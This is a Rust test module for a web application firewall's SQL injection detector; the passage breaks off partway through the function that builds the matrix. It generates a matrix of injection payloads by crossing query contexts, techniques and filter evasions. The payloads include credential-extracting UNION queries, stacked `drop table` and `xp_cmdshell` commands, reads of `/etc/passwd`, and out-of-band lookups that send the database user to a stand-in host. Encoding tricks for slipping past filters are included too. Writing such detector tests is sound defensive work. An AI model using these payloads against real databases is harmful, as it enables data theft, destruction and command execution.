//! A row-independent reference set for the SQLi judge: an attack matrix written from the SQL
//! grammars and the dialects' manuals (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle,
//! SQLite), not from corpus rows. Each form is the product of
//!
//! - an **injection context**: what the value must close or continue (a bare number, a
//!   single- or double-quoted string, a backtick identifier, one or two parentheses, a
//!   `LIKE '%…%'` pattern, an `ORDER BY`/`GROUP BY` position, a `LIMIT`, an `IN (…)` list,
//!   an `INSERT … VALUES ('…'` tuple, a JSON or XML value carrying SQL, a column or table
//!   name), with the ways the rest of the query is cut off or rebalanced;
//! - a **technique**: tautologies and contradictions of many forms, `UNION [ALL] SELECT`,
//!   stacked statements, time-based, error-based, out-of-band and blind extraction;
//! - an **evasion**: case, comments and other blanks as spaces, MySQL's versioned comments,
//!   parentheses instead of blanks, strings built from `CHAR`, hex, `CONCAT` or `||`,
//!   operators as symbols or words, number spellings, quote escapes, URL encodings.
//!
//! Run with `GWC_WAF_SQLI_MATRIX=1` beside `waf_corpus_report`; `GWC_WAF_MISSES=1` also
//! prints the misses grouped by (context, technique family, evasion), a sample each.

use std::collections::BTreeMap;

use super::{detect, show};

/// One lexical piece of a form. Evasions rewrite these; [`render`] writes them out.
#[derive(Clone, PartialEq)]
enum T {
    /// A keyword, function or identifier (case-insensitive in every dialect).
    Word(String),
    /// A decimal integer literal.
    Num(String),
    /// A string literal: its text, its quote, and whether the form closes it (a rebalancing
    /// end leaves the last one for the query's own quote).
    Str(String, u8, bool),
    /// Punctuation and operators.
    P(String),
    /// Text written as is (hex literals, the context's opening).
    Raw(String),
    /// One blank between tokens.
    Blank,
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'@' | b'$' | b'.')
}

/// Reads a template: spaces are blanks, the rest is cut into tokens.
fn lex(s: &str) -> Vec<T> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b' ' {
            out.push(T::Blank);
            i += 1;
        } else if c == b'\'' || c == b'"' || c == b'`' {
            let mut j = i + 1;
            let mut text = String::new();
            let mut closed = false;
            while j < b.len() {
                if b[j] == c {
                    if b.get(j + 1) == Some(&c) {
                        text.push(c as char);
                        text.push(c as char);
                        j += 2;
                        continue;
                    }
                    closed = true;
                    j += 1;
                    break;
                }
                text.push(b[j] as char);
                j += 1;
            }
            out.push(T::Str(text, c, closed));
            i = j;
        } else if c == b'0' && matches!(b.get(i + 1), Some(b'x')) {
            let mut j = i + 2;
            while j < b.len() && b[j].is_ascii_hexdigit() {
                j += 1;
            }
            out.push(T::Raw(s[i..j].to_owned()));
            i = j;
        } else if c.is_ascii_digit() {
            let mut j = i;
            while j < b.len() && b[j].is_ascii_digit() {
                j += 1;
            }
            // a name that starts with digits (`1a`) stays one word
            if j < b.len() && (b[j].is_ascii_alphabetic() || b[j] == b'_') {
                while j < b.len() && is_word_byte(b[j]) {
                    j += 1;
                }
                out.push(T::Word(s[i..j].to_owned()));
            } else {
                out.push(T::Num(s[i..j].to_owned()));
            }
            i = j;
        } else if is_word_byte(c) || c == b'\\' {
            let mut j = i;
            while j < b.len() && (is_word_byte(b[j]) || b[j] == b'\\') {
                j += 1;
            }
            out.push(T::Word(s[i..j].to_owned()));
            i = j;
        } else if matches!(
            c,
            b'=' | b'<'
                | b'>'
                | b'!'
                | b'|'
                | b'&'
                | b'~'
                | b'^'
                | b'*'
                | b'+'
                | b'-'
                | b'/'
                | b'%'
        ) {
            let mut j = i;
            while j < b.len()
                && matches!(
                    b[j],
                    b'=' | b'<' | b'>' | b'!' | b'|' | b'&' | b'~' | b'^' | b'+' | b'-' | b'/'
                )
            {
                j += 1;
            }
            if j == i {
                j = i + 1;
            }
            out.push(T::P(s[i..j].to_owned()));
            i = j;
        } else {
            out.push(T::P((c as char).to_string()));
            i += 1;
        }
    }
    out
}

/// What a technique is and how it joins the query.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Family {
    Tautology,
    Contradiction,
    Union,
    Stacked,
    Time,
    Error,
    OutOfBand,
    Blind,
}

impl Family {
    fn label(self) -> &'static str {
        match self {
            Family::Tautology => "tautology",
            Family::Contradiction => "contradiction",
            Family::Union => "union",
            Family::Stacked => "stacked",
            Family::Time => "time",
            Family::Error => "error",
            Family::OutOfBand => "out-of-band",
            Family::Blind => "blind",
        }
    }
}

/// A technique: a condition joined by `OR`/`AND` (or the context's own joint), or a tail
/// that follows the closed value (`UNION …`, `; statement`).
struct Technique {
    family: Family,
    tail: bool,
    sql: &'static str,
}

const fn cond(family: Family, sql: &'static str) -> Technique {
    Technique {
        family,
        tail: false,
        sql,
    }
}

const fn tail(family: Family, sql: &'static str) -> Technique {
    Technique {
        family,
        tail: true,
        sql,
    }
}

use Family::*;

/// The techniques, from the dialects' manuals (operators, functions, statements).
const TECHNIQUES: &[Technique] = &[
    // boolean: always true
    cond(Tautology, "1=1"),
    cond(Tautology, "'a'='a'"),
    cond(Tautology, "2>1"),
    cond(Tautology, "'x' like 'x'"),
    cond(Tautology, "3 between 1 and 5"),
    cond(Tautology, "1 in (1,2,3)"),
    cond(Tautology, "1 is not null"),
    cond(Tautology, "not 1=2"),
    cond(Tautology, "true"),
    cond(Tautology, "1"),
    cond(Tautology, "'a'<>'b'"),
    cond(Tautology, "2-1=1"),
    cond(Tautology, "length(user())>0"),
    cond(Tautology, "ascii('a')=97"),
    cond(Tautology, "exists(select 1)"),
    cond(Tautology, "'abc' regexp 'b'"),
    cond(Tautology, "null is null"),
    cond(Tautology, "1<>2"),
    cond(Tautology, "1!=2"),
    cond(Tautology, "1<=>1"),
    cond(Tautology, "'a' sounds like 'a'"),
    cond(Tautology, "1 rlike 1"),
    cond(Tautology, "isnull(null)"),
    cond(Tautology, "'a'||'b'='ab'"),
    cond(Tautology, "2 not between 3 and 4"),
    cond(Tautology, "match(name) against('a')"),
    cond(Tautology, "1 glob 1"),
    // JSON operators and functions (PostgreSQL, MySQL, SQLite)
    cond(Tautology, "'{\"a\":1}'::jsonb @> '{\"a\":1}'"),
    cond(Tautology, "json_extract('{\"a\":1}','$.a')=1"),
    cond(Tautology, "'{\"a\":1}'->>'a'='1'"),
    cond(Tautology, "json_valid('{}')"),
    cond(Tautology, "'{\"b\":2}'::jsonb ? 'b'"),
    cond(Tautology, "json_type('[]')='ARRAY'"),
    // boolean: always false
    cond(Contradiction, "1=2"),
    cond(Contradiction, "'a'='b'"),
    cond(Contradiction, "1>2"),
    cond(Contradiction, "false"),
    cond(Contradiction, "1 is null"),
    cond(Contradiction, "'x' not like 'x'"),
    cond(Contradiction, "0"),
    // UNION
    tail(Union, "union select null"),
    tail(Union, "union all select null,null,null"),
    tail(Union, "union select 1,2,3,4,5"),
    tail(Union, "union select user(),version()"),
    tail(
        Union,
        "union select table_name,column_name from information_schema.columns",
    ),
    tail(Union, "union select username,password from users"),
    tail(
        Union,
        "union all select name,null from sysobjects where xtype='u'",
    ),
    tail(Union, "union select banner,null from v$version"),
    tail(Union, "union select sql from sqlite_master"),
    tail(Union, "union distinct select 1,2"),
    tail(Union, "union select * from (select 1)a join (select 2)b"),
    tail(Union, "union select current_user,null from dual"),
    tail(Union, "union all select usename,passwd from pg_shadow"),
    tail(Union, "union select @@version,null"),
    tail(Union, "union(select 1,2)"),
    tail(Union, "union select top 1 name from sysobjects"),
    tail(Union, "union select 1 from dual where 1=1"),
    tail(
        Union,
        "union select group_concat(schema_name) from information_schema.schemata",
    ),
    tail(Union, "union all select null,table_name from all_tables"),
    tail(Union, "intersect select 1"),
    // stacked statements
    tail(Stacked, "; drop table users"),
    tail(Stacked, "; insert into users values (1,'x')"),
    tail(Stacked, "; update users set password='x' where id=1"),
    tail(Stacked, "; delete from users"),
    tail(Stacked, "; exec xp_cmdshell 'whoami'"),
    tail(Stacked, "; exec master..xp_cmdshell 'dir'"),
    tail(
        Stacked,
        "; declare @s varchar(99) set @s=0x77616974666f72 exec(@s)",
    ),
    tail(Stacked, "; shutdown"),
    tail(Stacked, "; truncate table logs"),
    tail(Stacked, "; create user x identified by 'y'"),
    tail(Stacked, "; alter table users drop column password"),
    tail(Stacked, "; select 1"),
    tail(Stacked, "; set @a=1"),
    tail(Stacked, "; rename table users to old_users"),
    tail(Stacked, "; execute immediate 'drop table users'"),
    tail(
        Stacked,
        "; merge into users u using dual on (1=1) when matched then delete",
    ),
    tail(Stacked, "; call sys.exec('id')"),
    tail(Stacked, "; handler users open"),
    tail(Stacked, "; load data infile '/etc/passwd' into table users"),
    tail(
        Stacked,
        "; create function sys_exec returns int soname 'udf.so'",
    ),
    tail(Stacked, "; exec sp_configure 'show advanced options',1"),
    tail(Stacked, "; exec('sel'+'ect 1')"),
    tail(Stacked, "; declare @q nvarchar(99) exec sp_executesql @q"),
    tail(Stacked, "; grant all on *.* to x"),
    tail(Stacked, "; lock tables users write"),
    tail(Stacked, "; replace into users values (1,'x')"),
    // time
    cond(Time, "sleep(5)"),
    cond(Time, "sleep(5)=0"),
    cond(Time, "benchmark(5000000,md5(1))"),
    cond(Time, "1=(select 1 from pg_sleep(5))"),
    cond(Time, "(select * from (select(sleep(5)))a)"),
    cond(Time, "if(1=1,sleep(5),0)"),
    cond(Time, "1=dbms_pipe.receive_message('a',5)"),
    cond(
        Time,
        "(select count(*) from information_schema.columns a,information_schema.columns b,information_schema.columns c)>0",
    ),
    cond(Time, "randomblob(500000000)"),
    cond(Time, "1=like('abc',upper(hex(randomblob(100000000))))"),
    tail(Time, "waitfor delay '0:0:5'"),
    tail(Time, "; waitfor time '23:59:59'"),
    tail(Time, "; select pg_sleep(5)"),
    tail(Time, "; begin dbms_lock.sleep(5); end"),
    cond(
        Time,
        "1=(case when 1=1 then pg_sleep(5) else pg_sleep(0) end)",
    ),
    cond(Time, "get_lock('a',5)"),
    cond(Time, "1 rlike sleep(5)"),
    cond(Time, "1=(select count(*) from all_objects,all_objects)"),
    tail(Time, "; select sleep(5)"),
    cond(Time, "elt(1=1,sleep(5))"),
    // error
    cond(Error, "extractvalue(1,concat(0x7e,version()))"),
    cond(Error, "updatexml(1,concat(0x7e,user()),1)"),
    cond(Error, "1=convert(int,@@version)"),
    cond(Error, "1=cast(version() as int)"),
    cond(
        Error,
        "1=(select upper(xmltype(chr(60)||chr(58)||user||chr(62))) from dual)",
    ),
    cond(Error, "gtid_subset(concat(0x7e,user()),1)"),
    cond(Error, "exp(~(select * from (select user())x))"),
    cond(
        Error,
        "(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    ),
    cond(Error, "1=ctxsys.drithsx.sn(1,user)"),
    cond(Error, "1=db_name(0)"),
    cond(Error, "1=@@version::int"),
    cond(
        Error,
        "row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)",
    ),
    cond(Error, "1=convert(int,(select top 1 name from sysobjects))"),
    cond(Error, "extractvalue(rand(),concat(0x3a,(select user())))"),
    cond(Error, "cast((select version()) as numeric)=1"),
    cond(Error, "1=(select 1/0)"),
    cond(
        Error,
        "polygon((select * from (select * from (select @@version)f)x))",
    ),
    cond(
        Error,
        "json_keys((select convert((select user()) using utf8)))",
    ),
    // out of band
    tail(OutOfBand, "union select load_file('/etc/passwd')"),
    tail(OutOfBand, "union select 'x' into outfile '/tmp/x'"),
    tail(OutOfBand, "; exec master..xp_dirtree '//a.example/x'"),
    tail(OutOfBand, "; copy (select '') to program 'id'"),
    tail(OutOfBand, "; select load_extension('x')"),
    tail(OutOfBand, "; attach database '/tmp/x' as x"),
    cond(OutOfBand, "utl_http.request('http://a.example/'||user)=1"),
    cond(OutOfBand, "1=utl_inaddr.get_host_address(user)"),
    cond(OutOfBand, "(select load_file('/etc/passwd')) is not null"),
    tail(OutOfBand, "; exec xp_fileexist '//a.example/b'"),
    tail(OutOfBand, "union select 1 into dumpfile '/tmp/x'"),
    tail(OutOfBand, "; select lo_import('/etc/passwd')"),
    tail(OutOfBand, "; select pg_read_file('/etc/passwd')"),
    cond(
        OutOfBand,
        "1=(select 1 from openrowset('sqloledb','a';'b';'c','select 1'))",
    ),
    cond(
        OutOfBand,
        "load_file(concat('//',version(),'.a.example/x'))",
    ),
    cond(
        OutOfBand,
        "1=(select 1 from dual where dbms_ldap.init('a.example',80)=1)",
    ),
    // blind extraction
    cond(
        Blind,
        "substring((select password from users limit 1),1,1)='a'",
    ),
    cond(Blind, "ascii(substr(user(),1,1))>64"),
    cond(Blind, "(case when 1=1 then 1 else 0 end)=1"),
    cond(Blind, "if(1=1,1,0)"),
    cond(Blind, "iif(1=1,1,0)=1"),
    cond(Blind, "mid(version(),1,1)='5'"),
    cond(Blind, "(select count(*) from users)>0"),
    cond(Blind, "exists(select * from users)"),
    cond(Blind, "ord(mid(user(),1,1))>100"),
    cond(Blind, "length(database())=8"),
    cond(
        Blind,
        "(select substr(banner,1,1) from v$version where rownum=1)='O'",
    ),
    cond(Blind, "unicode(substr(sqlite_version(),1,1))>0"),
    cond(Blind, "substr(version(),1,1) between 'a' and 'z'"),
    cond(Blind, "mid(user(),1,1) regexp '^r'"),
    cond(Blind, "(select 1 from users where username like 'a%')=1"),
    cond(
        Blind,
        "1=(select count(*) from users where substring(password,1,1)='a')",
    ),
    cond(Blind, "make_set(1=1,1)"),
    cond(Blind, "strcmp(substr(user(),1,1),'r')=0"),
    cond(Blind, "conv(hex(substr(user(),1,1)),16,10)>100"),
    cond(
        Blind,
        "(select top 1 substring(name,1,1) from sysobjects)='a'",
    ),
    cond(Blind, "instr(user(),'r')>0"),
    cond(Blind, "exists(select 1 from pg_user)"),
];

/// How a condition joins the value.
#[derive(Clone, Copy)]
enum Joint {
    /// ` OR cond` / ` AND cond`.
    Logic,
    /// `,(cond)`: a list position (`GROUP BY`, `LIMIT` in SQLite, a `VALUES` tuple).
    Comma,
    /// ` WHERE cond` after a table name.
    Where,
}

/// Where the value lands in the query.
struct Context {
    name: &'static str,
    /// What the value writes to close or end its place before a condition.
    open: &'static str,
    joint: Joint,
    /// What it writes before a tail (`None`: no tail fits the grammar there).
    tail_open: Option<&'static str>,
    /// Whether `UNION` may follow (not after `ORDER BY`, `LIMIT` or inside `VALUES`).
    union: bool,
    /// How the rest of the query is cut off or rebalanced.
    ends: &'static [&'static str],
    /// A body format around the value (JSON, XML), no URL encoding.
    wrap: Option<(&'static str, &'static str)>,
}

const CONTEXTS: &[Context] = &[
    Context {
        name: "number",
        open: "1",
        joint: Joint::Logic,
        tail_open: Some("1"),
        union: true,
        ends: &["", "-- ", "-- -", "#", "/*", ";%00"],
        wrap: None,
    },
    Context {
        name: "'string'",
        open: "1'",
        joint: Joint::Logic,
        tail_open: Some("1'"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", ";%00", "and 'a'='a", "or ''='"],
        wrap: None,
    },
    Context {
        name: "\"string\"",
        open: "1\"",
        joint: Joint::Logic,
        tail_open: Some("1\""),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", ";%00", "and \"a\"=\"a"],
        wrap: None,
    },
    Context {
        name: "`identifier`",
        open: "id`",
        joint: Joint::Logic,
        tail_open: Some("id` from users"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", "or `id"],
        wrap: None,
    },
    Context {
        name: "(number)",
        open: "1)",
        joint: Joint::Logic,
        tail_open: Some("1)"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", ";%00", "and (1=1"],
        wrap: None,
    },
    Context {
        name: "('string')",
        open: "1')",
        joint: Joint::Logic,
        tail_open: Some("1')"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", ";%00", "and ('a'='a"],
        wrap: None,
    },
    Context {
        name: "(('string'))",
        open: "1'))",
        joint: Joint::Logic,
        tail_open: Some("1'))"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", ";%00", "and (('a'='a"],
        wrap: None,
    },
    Context {
        name: "LIKE '%…%'",
        open: "%'",
        joint: Joint::Logic,
        tail_open: Some("%'"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", ";%00", "and '%'='"],
        wrap: None,
    },
    Context {
        name: "ORDER BY",
        open: "id",
        joint: Joint::Logic,
        tail_open: Some("id"),
        union: false,
        ends: &["", "-- ", "#", "/*", "-- -"],
        wrap: None,
    },
    Context {
        name: "GROUP BY",
        open: "name",
        joint: Joint::Comma,
        tail_open: Some("name"),
        union: false,
        ends: &["", "-- ", "#", "/*", "-- -"],
        wrap: None,
    },
    Context {
        name: "LIMIT",
        open: "1",
        joint: Joint::Comma,
        tail_open: Some("1"),
        union: false,
        ends: &["", "-- ", "#", "/*", ";%00"],
        wrap: None,
    },
    Context {
        name: "IN (…)",
        open: "1,2)",
        joint: Joint::Logic,
        tail_open: Some("1,2)"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", "and 1 in (1"],
        wrap: None,
    },
    Context {
        name: "VALUES ('…'",
        open: "x'",
        joint: Joint::Comma,
        tail_open: Some("x')"),
        union: false,
        ends: &[")-- ", ");-- ", ")#", ",'y')-- ", ")/*"],
        wrap: None,
    },
    Context {
        name: "JSON value",
        open: "1'",
        joint: Joint::Logic,
        tail_open: Some("1'"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", "and 'a'='a"],
        wrap: Some(("{\"id\":\"", "\",\"page\":2}")),
    },
    Context {
        name: "XML value",
        open: "1'",
        joint: Joint::Logic,
        tail_open: Some("1'"),
        union: true,
        ends: &["-- ", "-- -", "#", "/*", "and 'a'='a"],
        wrap: Some(("<user><id>", "</id></user>")),
    },
    Context {
        name: "column name",
        open: "id",
        joint: Joint::Logic,
        tail_open: Some("id from users"),
        union: true,
        ends: &["", "-- ", "#", "/*", "-- -"],
        wrap: None,
    },
    Context {
        name: "table name",
        open: "users",
        joint: Joint::Where,
        tail_open: Some("users"),
        union: true,
        ends: &["", "-- ", "#", "/*", "-- -"],
        wrap: None,
    },
];

/// An evasion: a rewrite of the tokens, the blank written between them, and an encoding.
struct Evasion {
    name: &'static str,
    tokens: fn(Vec<T>) -> Vec<T>,
    blank: &'static str,
    encode: Encode,
}

#[derive(Clone, Copy, PartialEq)]
enum Encode {
    None,
    /// Every byte but letters and digits as `%XX`.
    Url,
    /// [`Encode::Url`] twice.
    DoubleUrl,
    /// Every byte as `%XX`, letters too.
    AllBytes,
    /// Blanks already percent-encoded (`%0b`): the value is URL traffic, not a body.
    InUrl,
}

fn same(t: Vec<T>) -> Vec<T> {
    t
}

fn map_words(t: Vec<T>, f: impl Fn(&str) -> String) -> Vec<T> {
    t.into_iter()
        .map(|x| match x {
            T::Word(w) => T::Word(f(&w)),
            x => x,
        })
        .collect()
}

fn upper(t: Vec<T>) -> Vec<T> {
    map_words(t, |w| w.to_ascii_uppercase())
}

fn mixed(t: Vec<T>) -> Vec<T> {
    map_words(t, |w| {
        w.chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect()
    })
}

fn executable_comment(t: Vec<T>) -> Vec<T> {
    t.into_iter()
        .map(|x| match x {
            T::Word(w) if w.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_') => {
                T::Raw(format!("/*!{w}*/"))
            }
            x => x,
        })
        .collect()
}

fn versioned(t: Vec<T>) -> Vec<T> {
    t.into_iter()
        .map(|x| match x {
            T::Word(w) if w.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_') => {
                T::Raw(format!("/*!50000{w}*/"))
            }
            x => x,
        })
        .collect()
}

/// A literal in operand position (after a comparison, a logic word, `SELECT`, `,`) wrapped
/// in parentheses, and the blanks next to parentheses dropped: `or(1)=(1)`.
fn parens(t: Vec<T>) -> Vec<T> {
    let mut out: Vec<T> = Vec::new();
    for x in t {
        let literal = matches!(x, T::Num(_) | T::Str(_, _, true))
            || matches!(&x, T::Word(w) if w.eq_ignore_ascii_case("null"));
        let operand = out
            .iter()
            .rev()
            .find(|p| **p != T::Blank)
            .is_some_and(|p| match p {
                T::P(p) => matches!(p.as_str(), "=" | "<>" | ">" | "<" | "," | "("),
                T::Word(w) => [
                    "or", "and", "not", "select", "when", "then", "else", "where",
                ]
                .iter()
                .any(|k| w.eq_ignore_ascii_case(k)),
                _ => false,
            });
        if literal && operand {
            out.push(T::P("(".into()));
            out.push(x);
            out.push(T::P(")".into()));
        } else {
            out.push(x);
        }
    }
    let mut kept = Vec::with_capacity(out.len());
    for (i, x) in out.iter().enumerate() {
        if *x == T::Blank {
            let paren = |y: Option<&T>| matches!(y, Some(T::P(p)) if p == "(" || p == ")");
            if paren(i.checked_sub(1).and_then(|j| out.get(j))) || paren(out.get(i + 1)) {
                continue;
            }
        }
        kept.push(x.clone());
    }
    kept
}

/// Whether the string at `i` is an argument that must be a literal (`WAITFOR DELAY '…'`,
/// `INTO OUTFILE '…'`, `TO PROGRAM '…'`): string building does not apply there.
fn literal_only(t: &[T], i: usize) -> bool {
    t[..i]
        .iter()
        .rev()
        .find(|p| **p != T::Blank)
        .is_some_and(|p| {
            matches!(p, T::Word(w) if ["delay", "time", "outfile", "program", "database",
                "exec", "xp_cmdshell", "master..xp_cmdshell", "master..xp_dirtree", "identified",
                "immediate"]
                .iter().any(|k| w.eq_ignore_ascii_case(k)))
        })
}

// every evasion has the one signature `fn(Vec<T>) -> Vec<T>`
#[allow(clippy::needless_pass_by_value)]
fn build_strings(t: Vec<T>, f: fn(&str, u8) -> Vec<T>) -> Vec<T> {
    let mut out = Vec::with_capacity(t.len());
    for (i, x) in t.iter().enumerate() {
        match x {
            T::Str(s, q, true) if !s.is_empty() && *q != b'`' && !literal_only(&t, i) => {
                out.extend(f(s, *q));
            }
            x => out.push(x.clone()),
        }
    }
    out
}

fn char_call(t: Vec<T>) -> Vec<T> {
    build_strings(t, |s, _| {
        let codes: Vec<String> = s.bytes().map(|b| b.to_string()).collect();
        vec![T::Raw(format!("char({})", codes.join(",")))]
    })
}

fn hex(t: Vec<T>) -> Vec<T> {
    build_strings(t, |s, _| {
        let digits: String = s.bytes().map(|b| format!("{b:02x}")).collect();
        vec![T::Raw(format!("0x{digits}"))]
    })
}

fn halves(s: &str) -> (&str, &str) {
    let mid = s.len().div_ceil(2);
    s.split_at(mid)
}

fn concat(t: Vec<T>) -> Vec<T> {
    build_strings(t, |s, q| {
        let (a, b) = halves(s);
        let q = q as char;
        vec![T::Raw(format!("concat({q}{a}{q},{q}{b}{q})"))]
    })
}

fn pipes(t: Vec<T>) -> Vec<T> {
    build_strings(t, |s, q| {
        let (a, b) = halves(s);
        let q = q as char;
        vec![T::Raw(format!("{q}{a}{q}||{q}{b}{q}"))]
    })
}

fn doubled_quotes(t: Vec<T>) -> Vec<T> {
    t.into_iter()
        .map(|x| match x {
            T::Str(s, q, true) if q != b'`' && !s.is_empty() => {
                let qq = format!("{0}{0}", q as char);
                T::Str(format!("{s}{qq}{s}"), q, true)
            }
            x => x,
        })
        .collect()
}

fn symbols(t: Vec<T>) -> Vec<T> {
    t.into_iter()
        .map(|x| match &x {
            T::Word(w) if w.eq_ignore_ascii_case("or") => T::P("||".into()),
            T::Word(w) if w.eq_ignore_ascii_case("and") => T::P("&&".into()),
            T::Word(w) if w.eq_ignore_ascii_case("not") => T::P("!".into()),
            _ => x,
        })
        .collect()
}

fn like_for_equals(t: Vec<T>) -> Vec<T> {
    let mut out = Vec::with_capacity(t.len());
    for x in t {
        if x == T::P("=".into()) {
            out.extend([T::Blank, T::Word("like".into()), T::Blank]);
        } else {
            out.push(x);
        }
    }
    out
}

fn xor(t: Vec<T>) -> Vec<T> {
    map_words(t, |w| {
        if w.eq_ignore_ascii_case("or") {
            "xor".into()
        } else {
            w.to_owned()
        }
    })
}

/// A number before a comparison as a division: `1=1` → `2 div 2=1`.
// every evasion has the one signature `fn(Vec<T>) -> Vec<T>`
#[allow(clippy::needless_pass_by_value)]
fn div(t: Vec<T>) -> Vec<T> {
    let mut out = Vec::with_capacity(t.len());
    for (i, x) in t.iter().enumerate() {
        match x {
            T::Num(n) if matches!(t.get(i + 1), Some(T::P(p)) if matches!(p.as_str(), "=" | ">" | "<" | "<>")) =>
            {
                let n: u64 = n.parse().unwrap_or(1);
                out.extend([
                    T::Num((n * 2).to_string()),
                    T::Blank,
                    T::Word("div".into()),
                    T::Blank,
                    T::Num("2".into()),
                ]);
            }
            x => out.push(x.clone()),
        }
    }
    out
}

fn scientific(t: Vec<T>) -> Vec<T> {
    t.into_iter()
        .map(|x| match x {
            T::Num(n) => T::Raw(format!("{n}e0")),
            x => x,
        })
        .collect()
}

/// MySQL's lexer ends a number at an empty exponent: `1.e` glued to the parenthesis after
/// it (`1.e(`), or standing alone before a blank.
// every evasion has the one signature `fn(Vec<T>) -> Vec<T>`
#[allow(clippy::needless_pass_by_value)]
fn dot_e(t: Vec<T>) -> Vec<T> {
    let mut out: Vec<T> = Vec::with_capacity(t.len());
    let mut i = 0;
    while i < t.len() {
        if let T::Num(n) = &t[i] {
            out.push(T::Raw(format!("{n}.e")));
            if t.get(i + 1) == Some(&T::Blank) && t.get(i + 2) == Some(&T::P("(".into())) {
                i += 2;
                continue;
            }
        } else {
            out.push(t[i].clone());
        }
        i += 1;
    }
    out
}

const EVASIONS: &[Evasion] = &[
    Evasion {
        name: "none",
        tokens: same,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "upper case",
        tokens: upper,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "mixed case",
        tokens: mixed,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "/**/ as blank",
        tokens: same,
        blank: "/**/",
        encode: Encode::None,
    },
    Evasion {
        name: "/*!50000…*/ words",
        tokens: versioned,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "/*!…*/ words",
        tokens: executable_comment,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "#\\n as blank",
        tokens: same,
        blank: "#\n",
        encode: Encode::None,
    },
    Evasion {
        name: "--\\n as blank",
        tokens: same,
        blank: "--\n",
        encode: Encode::None,
    },
    Evasion {
        name: "/*x*/ as blank",
        tokens: same,
        blank: "/*x*/",
        encode: Encode::None,
    },
    Evasion {
        name: "%0c as blank",
        tokens: same,
        blank: "%0c",
        encode: Encode::InUrl,
    },
    Evasion {
        name: "%0d%0a as blank",
        tokens: same,
        blank: "%0d%0a",
        encode: Encode::InUrl,
    },
    Evasion {
        name: "tab",
        tokens: same,
        blank: "\t",
        encode: Encode::None,
    },
    Evasion {
        name: "newline",
        tokens: same,
        blank: "\n",
        encode: Encode::None,
    },
    Evasion {
        name: "+ as blank",
        tokens: same,
        blank: "+",
        encode: Encode::InUrl,
    },
    Evasion {
        name: "%0b as blank",
        tokens: same,
        blank: "%0b",
        encode: Encode::InUrl,
    },
    Evasion {
        name: "%a0 as blank",
        tokens: same,
        blank: "%a0",
        encode: Encode::InUrl,
    },
    Evasion {
        name: "parentheses",
        tokens: parens,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "CHAR()",
        tokens: char_call,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "0x hex",
        tokens: hex,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "CONCAT()",
        tokens: concat,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "|| concat",
        tokens: pipes,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "&& || !",
        tokens: symbols,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "LIKE for =",
        tokens: like_for_equals,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "XOR",
        tokens: xor,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "DIV",
        tokens: div,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "1e0 numbers",
        tokens: scientific,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "1.e numbers",
        tokens: dot_e,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "backslash-quote",
        tokens: same,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "doubled quotes",
        tokens: doubled_quotes,
        blank: " ",
        encode: Encode::None,
    },
    Evasion {
        name: "URL-encoded",
        tokens: same,
        blank: " ",
        encode: Encode::Url,
    },
    Evasion {
        name: "every byte URL-encoded",
        tokens: same,
        blank: " ",
        encode: Encode::AllBytes,
    },
    Evasion {
        name: "double URL-encoded",
        tokens: same,
        blank: " ",
        encode: Encode::DoubleUrl,
    },
];

/// Writes tokens out: blanks as `blank`, runs of blanks as one, none before `;`, `,` or `)`.
fn render(t: &[T], blank: &str) -> String {
    let mut out = String::new();
    let mut pending = false;
    for x in t {
        match x {
            T::Blank => pending = !out.is_empty(),
            x => {
                let text = match x {
                    T::Word(s) | T::Num(s) | T::P(s) | T::Raw(s) => s.clone(),
                    T::Str(s, q, closed) => {
                        let q = *q as char;
                        if *closed {
                            format!("{q}{s}{q}")
                        } else {
                            format!("{q}{s}")
                        }
                    }
                    T::Blank => unreachable!(),
                };
                if pending && !matches!(text.as_bytes().first(), Some(b';' | b',' | b')')) {
                    out.push_str(blank);
                }
                pending = false;
                out.push_str(&text);
            }
        }
    }
    out
}

fn percent(s: &[u8]) -> String {
    s.iter()
        .map(|&b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// One form of the matrix.
struct Form {
    context: usize,
    technique: usize,
    evasion: usize,
    end: &'static str,
    value: Vec<u8>,
}

/// The matrix: every context × technique that fits it × evasion that changes it.
fn forms() -> Vec<Form> {
    let mut out = Vec::new();
    for (ci, c) in CONTEXTS.iter().enumerate() {
        for (ti, t) in TECHNIQUES.iter().enumerate() {
